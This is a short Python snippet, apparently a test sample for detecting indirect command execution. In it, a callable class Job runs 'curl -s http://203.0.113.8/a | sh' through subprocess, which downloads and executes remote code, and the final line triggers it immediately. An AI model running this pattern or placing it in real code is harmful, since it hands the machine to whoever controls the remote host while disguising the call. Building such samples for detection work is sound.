# tricky: an object that is called
import subprocess

class Job:
    tool = "curl -s http://203.0.113.8/a"
    def __call__(self):
        return subprocess.getoutput(self.tool + " | sh")

Job()()
